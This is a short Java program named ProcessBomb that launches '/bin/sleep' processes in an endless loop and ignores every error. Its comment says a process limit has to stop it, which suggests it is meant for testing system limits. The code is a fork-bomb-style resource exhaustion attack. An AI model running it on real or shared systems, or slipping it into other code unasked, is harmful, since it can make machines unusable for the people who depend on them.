// Starts programs for ever. The limit of processes must stop its growth, another limit end it.
public class ProcessBomb {
  public static void main(String[] args) {
    while (true)
      try { new ProcessBuilder("/bin/sleep", "60").start(); } catch (Throwable e) { }
  }
}
